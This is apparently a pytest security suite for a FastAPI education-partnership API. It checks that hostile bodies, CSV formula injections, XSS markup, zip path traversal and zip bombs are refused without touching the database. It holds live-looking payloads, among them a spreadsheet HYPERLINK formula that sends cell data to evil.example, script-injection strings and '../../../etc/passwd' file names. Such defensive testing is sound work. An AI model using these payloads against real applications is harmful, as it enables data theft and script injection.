"""Hostile input against every write operation the OpenAPI document lists: each case gets
a clear problem+json 4xx and leaves every table exactly as it was. Text that a spreadsheet
would run comes out of every CSV export as text, and markup comes back byte for byte."""

import csv
import hashlib
import io
import re
import uuid
import zipfile
from pathlib import Path

import httpx
import pytest
import yaml
from fastapi import FastAPI
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

import api.models  # noqa: F401  (every table, for the digest)
from api.core.db import Base, Database
from api.main import create_app
from tests.conftest import settings_for_tests
from tests.core.test_bad_input import assert_problem

# Small limits, so an oversized body is cheap to send to every operation.
MAX_BODY = 16 * 1024
BULK_MAX_BODY = 32 * 1024
WRITES = ("post", "put", "patch", "delete")
SPEC = yaml.safe_load((Path(__file__).parents[2] / "openapi.yaml").read_text())
PARAM = re.compile(r"\{[^}]+\}")


def _operations(with_body: bool) -> list[tuple[str, str]]:
    found = []
    for path, methods in SPEC["paths"].items():
        for method, operation in methods.items():
            takes_body = "requestBody" in operation
            if method in WRITES and takes_body == with_body:
                found.append((method.upper(), path))
    return found


def named(operations: list[tuple[str, str]]) -> list[str]:
    return [f"{method} {path}" for method, path in operations]


BODY_OPERATIONS = _operations(with_body=True)
BODYLESS_OPERATIONS = _operations(with_body=False)
JSON = {"content-type": "application/json"}
DEEP = b'{"name": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"
# Every case: (content, headers); the headers add to the JSON content type.
BODY_CASES: dict[str, tuple[bytes, dict[str, str]]] = {
    "deep-json": (DEEP, JSON),
    "invalid-utf8": (b'{"name": "\xff\xfe\xc3\x28", "title": "\xed\xa0\x80"}', JSON),
    "nul-bytes": (b'{"name": "a\\u0000b", "title": "x\\u0000", "items": ["\\u0000"]}', JSON),
    "float-overflow": (b'{"name": 1e309, "value": 1e309, "score": -1e309}', JSON),
    "huge-integer": (b'{"value": 1' + b"0" * 400 + b', "enrollment": -1' + b"0" * 400 + b"}", JSON),
    "lone-surrogate": (b'{"name": "\\ud800", "title": "\\udfff"}', JSON),
    "not-json-at-all": (b"\x00\x01\x02\x03", JSON),
    "oversized-header": (b"{}", JSON | {"If-Match": '"' + "9" * 64 * 1024 + '"'}),
    "oversized-idempotency-key": (b"{}", JSON | {"Idempotency-Key": "k" * 64 * 1024}),
}
# Any operation, body or not: refused before it is read.
ANY_CASES: dict[str, tuple[bytes, dict[str, str]]] = {
    "oversized-body": (b'{"name": "' + b"x" * BULK_MAX_BODY + b'"}', JSON),
    "xml": (b"<partner><name>x</name></partner>", {"content-type": "application/xml"}),
    "text": (b"name=x", {"content-type": "text/plain"}),
    "json-by-another-name": (b'{"name": "x"}', {"content-type": "application/javascript"}),
}


@pytest.fixture
def app(database: Database) -> FastAPI:
    settings = settings_for_tests(max_body_bytes=MAX_BODY, bulk_max_body_bytes=BULK_MAX_BODY)
    return create_app(settings, database=database)


async def digest(session: AsyncSession) -> dict[str, str]:
    """Per table, a hash of every row in primary key order."""
    tables = {}
    for table in Base.metadata.sorted_tables:
        rows = await session.execute(select(table).order_by(*table.primary_key.columns))
        hashed = hashlib.sha256()
        for row in rows:
            hashed.update(repr(tuple(row)).encode())
        tables[table.name] = hashed.hexdigest()
    return tables


def concrete(path: str) -> str:
    """The path with a well-formed id nobody holds in each parameter."""
    return PARAM.sub(lambda _: str(uuid.uuid4()), path)


async def _refused(
    client: httpx.AsyncClient, method: str, path: str, content: bytes, headers: dict[str, str]
) -> httpx.Response:
    response = await client.request(method, concrete(path), content=content, headers=headers)
    assert 400 <= response.status_code < 500, f"{method} {path}: {response.text[:300]}"
    assert_problem(response, response.status_code)
    return response


@pytest.mark.parametrize(("method", "path"), BODY_OPERATIONS, ids=named(BODY_OPERATIONS))
async def test_hostile_bodies_are_refused_and_change_nothing(
    client: httpx.AsyncClient, session: AsyncSession, method: str, path: str
) -> None:
    before = await digest(session)
    for name, (content, headers) in (BODY_CASES | ANY_CASES).items():
        if name in ("xml", "text") and path.endswith(("/import", "/imports/oneroster")):
            headers = {"content-type": "application/xml"}
        response = await _refused(client, method, path, content, headers)
        if name == "oversized-body":
            assert response.status_code == 413, name
        if name in ("xml", "text", "json-by-another-name"):
            assert response.status_code == 415, name
    assert await digest(session) == before


@pytest.mark.parametrize(("method", "path"), BODYLESS_OPERATIONS, ids=named(BODYLESS_OPERATIONS))
async def test_bodies_sent_where_none_is_taken_are_refused_before_reading(
    client: httpx.AsyncClient, session: AsyncSession, method: str, path: str
) -> None:
    before = await digest(session)
    for name, (content, headers) in ANY_CASES.items():
        response = await _refused(client, method, path, content, headers)
        if method != "DELETE":  # a DELETE's body is never read, so nothing refuses it
            assert response.status_code == (413 if name == "oversized-body" else 415), name
    assert await digest(session) == before


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"PWN click")',
    "+PWN+1",
    "-PWN-1",
    "@SUM(PWN)",
    "\t=PWN()",
    "\r=PWN()",
]
CSV_EXPORTS = [
    path
    for path, methods in SPEC["paths"].items()
    if "text/csv" in methods.get("get", {}).get("responses", {}).get("200", {}).get("content", {})
    and "{" not in path
]


@pytest.fixture
async def formula_records(client: httpx.AsyncClient) -> None:
    district = await client.post("/api/v1/districts", json={"name": FORMULAS[0], "state": "VT"})
    assert district.status_code == 201, district.text
    for n, formula in enumerate(FORMULAS):
        made = [
            await client.post(
                "/api/v1/partners",
                json={"name": formula, "kind": "nonprofit", "city": formula, "street": formula},
            ),
            await client.post(
                "/api/v1/schools",
                json={"name": formula, "district_id": district.json()["id"], "city": formula},
            ),
            await client.post(
                "/api/v1/people",
                json={"given_name": formula, "family_name": formula, "notes": formula},
            ),
            await client.post(
                "/api/v1/goals",
                json={
                    "district_id": district.json()["id"],
                    "school_year": "2026-27",
                    "title": formula,
                    "area": "ela",
                    "metric": formula,
                },
            ),
            await client.post(
                "/api/v1/mentoring/programs",
                json={"name": f"{formula} {n}", "kind": "coaching", "start_date": "2026-09-01"},
            ),
        ]
        for answer in made:
            assert answer.status_code == 201, answer.text


@pytest.mark.usefixtures("formula_records")
async def test_formulas_leave_every_csv_export_as_text(client: httpx.AsyncClient) -> None:
    assert len(CSV_EXPORTS) >= 10
    exported = 0
    for path in CSV_EXPORTS:
        response = await client.get(path, params={"format": "csv"})
        assert response.status_code == 200, f"{path}: {response.text[:300]}"
        for row in csv.reader(io.StringIO(response.text, newline="")):
            for cell in row:
                if "PWN" in cell:
                    exported += 1
                    assert cell.startswith("'"), f"{path} exports {cell!r} as a formula"
    # Partners, schools, people, goals and programmes carried them out.
    assert exported >= 5 * len(FORMULAS)


MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;b&gt; & <b>",
]


@pytest.mark.parametrize("markup", MARKUP)
async def test_markup_round_trips_byte_for_byte(client: httpx.AsyncClient, markup: str) -> None:
    made = await client.post(
        "/api/v1/partners", json={"name": markup, "kind": "nonprofit", "description": markup}
    )
    assert made.status_code == 201, made.text
    read = await client.get(made.headers["location"])
    assert (read.json()["name"], read.json()["description"]) == (markup, markup)
    assert read.headers["content-type"] == "application/json"
    assert read.headers["x-content-type-options"] == "nosniff"


def _zip_of(members: dict[str, bytes], level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


MANIFEST = b"propertyName,value\nmanifest.version,1.0\noneroster.version,1.2\nfile.orgs,bulk\n"
ORGS = b"sourcedId,status,dateLastModified,name,type,identifier,parentSourcedId\n"
ZIPS = {
    "parent-traversal": _zip_of({"manifest.csv": MANIFEST, "../../orgs.csv": ORGS}),
    "absolute-path": _zip_of({"manifest.csv": MANIFEST, "/etc/orgs.csv": ORGS}),
    "nested-folder": _zip_of({"manifest.csv": MANIFEST, "a/../../orgs.csv": ORGS}),
    "zip-bomb": _zip_of({"manifest.csv": MANIFEST, "orgs.csv": ORGS + b"0" * 60_000_000}, 9),
    "not-a-zip": b"PK\x03\x04 this is no archive" + bytes(range(256)),
    "truncated": _zip_of({"manifest.csv": MANIFEST, "orgs.csv": ORGS})[:-30],
    "empty": b"",
}
CSVS = {
    "binary": bytes(range(256)) * 8,
    "invalid-utf8": b"goal_id,measured_on,value\n\xff\xfe,\xc3\x28,1\n",
    "nul-bytes": b"goal_id,measured_on,value\nx\x00y,2026-01-01,1\n",
    "huge-numbers": b"goal_id,measured_on,value\n"
    + str(uuid.uuid4()).encode()
    + b",2026-01-01,1e309\n",
    "unclosed-quote": b'goal_id,measured_on,value\n"abc,2026-01-01,1\n',
    "only-a-header-of-junk": b'"=HYPERLINK()",@,+,-\n',
}


@pytest.mark.parametrize("name", ZIPS)
async def test_hostile_oneroster_zips_are_refused_and_write_nothing(
    client: httpx.AsyncClient, session: AsyncSession, name: str
) -> None:
    before = await digest(session)
    response = await _refused(
        client, "POST", "/api/v1/imports/oneroster", ZIPS[name], {"content-type": "application/zip"}
    )
    assert response.status_code in (400, 413, 422), response.text
    assert await digest(session) == before


async def test_an_upload_named_outside_its_folder_changes_nothing(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    before = await digest(session)
    files = {"file": ("../../../etc/passwd.zip", ZIPS["parent-traversal"], "application/zip")}
    response = await client.post("/api/v1/imports/oneroster", files=files)
    assert 400 <= response.status_code < 500, response.text
    assert_problem(response, response.status_code)
    assert await digest(session) == before


@pytest.mark.parametrize("name", CSVS)
async def test_hostile_csv_uploads_are_refused_and_write_nothing(
    client: httpx.AsyncClient, session: AsyncSession, name: str
) -> None:
    program = await client.post(
        "/api/v1/mentoring/programs",
        json={"name": "BBBS", "kind": "mentoring", "start_date": "2026-09-01"},
    )
    assert program.status_code == 201, program.text
    before = await digest(session)
    for path in (
        "/api/v1/measurements/import",
        f"/api/v1/mentoring/programs/{program.json()['id']}/matches/import",
    ):
        await _refused(client, "POST", path, CSVS[name], {"content-type": "text/csv"})
    assert await digest(session) == before
